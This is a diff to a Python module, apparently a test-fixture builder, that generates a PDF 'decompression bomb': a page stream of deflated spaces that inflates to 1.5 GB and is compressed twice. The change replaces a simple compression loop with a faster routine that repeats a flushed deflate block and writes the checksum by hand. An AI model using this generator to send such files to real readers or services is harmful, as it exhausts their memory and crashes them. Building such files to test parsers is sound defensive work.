@@ -1,8 +1,9 @@
 """Builds files that mean harm, or look like it: small ones that cost their reader much."""
 
 import zlib
+from functools import reduce
 
-BOMB_BYTES = 1_500_000_000
+BOMB_MEGABYTES = 1_500
 
 
 def write_pdf(*objects: bytes) -> bytes:
@@ -37,15 +38,18 @@ def write_page(content: bytes, *, resources: bytes = b"") -> list[bytes]:
     ]
 
 
-def pack_zeros(size: int, *, fill: bytes = b" ") -> bytes:
-    """Return so many bytes deflated, without ever holding them; a thousandth of the size."""
-    packer, block = zlib.compressobj(9), fill * 1_000_000
-    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
+def pack_spaces(megabytes: int) -> bytes:
+    """Return so many spaces deflated, without ever holding them; a thousandth of the size."""
+    packer, block = zlib.compressobj(9), b" " * 1_000_000
+    head = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # which says the same wherever it stands
+    checksum = reduce(lambda value, _: zlib.adler32(block, value), range(megabytes), 1)
+    return head + packed * (megabytes - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")
 
 
 def build_stream_bomb() -> bytes:
     """Return a page whose content inflates to 1.5 GB, packed twice."""
-    packed = zlib.compress(pack_zeros(BOMB_BYTES))
+    packed = zlib.compress(pack_spaces(BOMB_MEGABYTES))
     return write_pdf(*write_page(write_stream(packed, filters=b"/Filter [/FlateDecode /FlateDecode]")))
 
 
